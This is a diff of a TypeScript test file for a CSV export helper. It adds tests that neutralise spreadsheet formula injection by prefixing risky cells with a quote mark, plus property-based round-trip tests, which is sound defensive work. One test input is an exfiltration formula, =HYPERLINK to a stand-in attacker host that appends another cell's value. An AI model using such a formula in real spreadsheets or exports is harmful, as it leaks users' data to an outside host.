@@ -3,41 +3,106 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import type { FastifyReply } from 'fastify';
 import { describe, expect, it } from 'vitest';
-import { csvField, sendCsvText } from './csv-download.ts';
+import { type CsvCellKind, csvField, sendCsvText } from './csv-download.ts';
 
 describe('csvField', () => {
   it('quotes only fields with a comma, quote or line break, doubling quotes', () => {
-    expect(csvField('plain')).toBe('plain');
-    expect(csvField('a,b')).toBe('"a,b"');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
+    expect(csvField('plain', 'text')).toBe('plain');
+    expect(csvField('a,b', 'text')).toBe('"a,b"');
+    expect(csvField('say "hi"', 'text')).toBe('"say ""hi"""');
+    expect(csvField('two\r\nlines', 'text')).toBe('"two\r\nlines"');
   });
 
   it('writes null as empty, numbers as text and booleans as 1 or empty', () => {
-    expect(csvField(null)).toBe('');
-    expect(csvField(150.5)).toBe('150.5');
-    expect(csvField(true)).toBe('1');
-    expect(csvField(false)).toBe('');
+    expect(csvField(null, 'text')).toBe('');
+    expect(csvField(undefined, 'text')).toBe('');
+    expect(csvField(150.5, 'number')).toBe('150.5');
+    expect(csvField(true, 'code')).toBe('1');
+    expect(csvField(false, 'code')).toBe('');
+  });
+
+  it('puts a quote mark before text a spreadsheet would run as a formula (OWASP)', () => {
+    expect(csvField('=1+1', 'text')).toBe("'=1+1");
+    expect(csvField('+1+2', 'text')).toBe("'+1+2");
+    expect(csvField('-2+3', 'text')).toBe("'-2+3");
+    expect(csvField('@SUM(1)', 'text')).toBe("'@SUM(1)");
+    // Tab and carriage return: a CR also needs quoting, the mark goes inside the quotes.
+    expect(csvField('\t=1+1', 'text')).toBe("'\t=1+1");
+    expect(csvField('\r=1+1', 'text')).toBe('"\'\r=1+1"');
+    // Marked first, then quoted as any field: commas, quotes and line breaks stay in one cell.
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"x")', 'text')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"',
+    );
+    expect(csvField('=1,2', 'text')).toBe('"\'=1,2"');
+    expect(csvField('+a\r\nb', 'text')).toBe('"\'+a\r\nb"');
+    expect(csvField('@"x"', 'text')).toBe('"\'@""x"""');
+  });
+
+  it('leaves plain text, text with a formula character later on, and the empty text alone', () => {
+    expect(csvField('ORD-1', 'text')).toBe('ORD-1');
+    expect(csvField('a=b', 'text')).toBe('a=b');
+    expect(csvField(' =1+1', 'text')).toBe(' =1+1');
+    expect(csvField("'=1+1", 'text')).toBe("'=1+1");
+    expect(csvField('Дилноза', 'text')).toBe('Дилноза');
+    expect(csvField('', 'text')).toBe('');
+  });
+
+  it('writes numbers and dates the product formatted as they are, negative amounts included', () => {
+    expect(csvField('-1500.00', 'number')).toBe('-1500.00');
+    expect(csvField(-3, 'number')).toBe('-3');
+    expect(csvField('+5', 'number')).toBe('+5');
+    expect(csvField('2026-03-01', 'date')).toBe('2026-03-01');
+    expect(csvField('01/03/2026 10:00:00', 'date')).toBe('01/03/2026 10:00:00');
+    expect(csvField('WITHDRAWAL', 'code')).toBe('WITHDRAWAL');
   });
 });
 
+/** What a spreadsheet should see in a text cell: the text, marked when it starts a formula. */
+const shownAsText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+
 describe('csvField against a real CSV parser', () => {
+  const records = fc.array(
+    fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 6 }),
+    { minLength: 1, maxLength: 8 },
+  );
+  // Text starting with a formula character, with quotes, commas and line breaks after it.
+  const formulaLike = fc
+    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'grapheme' }))
+    .map(([first, rest]) => first + rest);
+  const rectangular = (rows: string[][]) => {
+    const width = rows[0]?.length ?? 1;
+    return rows.map((record) => Array.from({ length: width }, (_, index) => record[index] ?? ''));
+  };
+  const written = (rows: string[][], kind: CsvCellKind) =>
+    rows.map((record) => `${record.map((value) => csvField(value, kind)).join(',')}\r\n`).join('');
+
   it('round-trips any text, quotes, commas and line breaks included, through csv-parse', () => {
     fc.assert(
+      fc.property(records, (rows) => {
+        const cells = rectangular(rows);
+        expect(parse(written(cells, 'number'), { relax_column_count: false })).toEqual(cells);
+      }),
+    );
+  });
+
+  it('reads back every text cell as its text, with a quote mark exactly before a formula', () => {
+    fc.assert(
       fc.property(
-        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 6 }), {
-          minLength: 1,
-          maxLength: 8,
-        }),
-        (records) => {
-          const width = records[0]?.length ?? 1;
-          const rectangular = records.map((record) =>
-            Array.from({ length: width }, (_, index) => record[index] ?? ''),
-          );
-          const text = rectangular
-            .map((record) => `${record.map(csvField).join(',')}\r\n`)
-            .join('');
-          expect(parse(text, { relax_column_count: false })).toEqual(rectangular);
+        fc.array(
+          fc.array(fc.oneof(fc.string({ unit: 'grapheme' }), formulaLike), {
+            minLength: 1,
+            maxLength: 6,
+          }),
+          {
+            minLength: 1,
+            maxLength: 8,
+          },
+        ),
+        (rows) => {
+          const cells = rectangular(rows);
+          const read: string[][] = parse(written(cells, 'text'), { relax_column_count: false });
+          expect(read).toEqual(cells.map((record) => record.map(shownAsText)));
+          for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
         },
       ),
     );
